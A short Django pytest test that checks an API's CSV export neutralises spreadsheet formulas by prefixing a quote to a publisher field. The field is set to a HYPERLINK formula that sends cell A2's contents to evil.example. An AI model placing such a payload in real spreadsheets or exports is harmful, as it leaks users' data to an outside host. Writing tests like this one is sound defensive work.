"""The API's CSV neutralises cells a spreadsheet would run as formulas, numbers kept."""

import csv
import io

import pytest

from statistics.models import Source

pytestmark = pytest.mark.django_db


def test_a_source_publisher_typed_as_a_formula_is_text_in_the_api_csv(client, offences):
    Source.objects.update(publisher='=HYPERLINK("http://evil.example/?"&A2,"Click")')
    response = client.get("/api/figures/?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    publishers = {value for row in rows for key, value in row.items() if "publisher" in key}
    assert publishers == {'\'=HYPERLINK("http://evil.example/?"&A2,"Click")'}
    assert all(not row["value"].startswith("'") for row in rows)
